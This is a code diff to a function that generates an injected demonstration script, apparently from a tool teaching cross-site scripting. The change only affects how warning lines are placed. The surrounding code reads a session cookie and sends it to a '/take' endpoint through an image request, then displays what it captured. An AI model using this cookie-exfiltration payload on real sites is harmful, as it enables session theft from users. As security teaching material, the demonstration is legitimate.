@@ -47,12 +47,14 @@ export function prankScript(texts: AttackTexts, self: string, cookieName: string
   const pair = document.cookie.split('; ').find((one) => one.startsWith(${JSON.stringify(`${cookieName}=`)})) ?? '';
   const ticket = pair.slice(pair.indexOf('=') + 1);
   new Image().src = ${JSON.stringify(`${self}/take?ticket=`)} + encodeURIComponent(ticket);
+  let last = document.querySelector('h1');
   const say = (text) => {
     const line = document.createElement('p');
     line.className = 'warning';
     line.setAttribute('role', 'alert');
     line.textContent = text;
-    document.querySelector('h1').after(line);
+    last.after(line);
+    last = line;
   };
   const shown = decodeURIComponent(ticket).replace(/^s:/, '').slice(0, 4) + '…';
   say(ticket === '' ? ${JSON.stringify(texts.scriptReadsNothing)} : ${JSON.stringify(texts.scriptReads)}.replace('%s', shown));
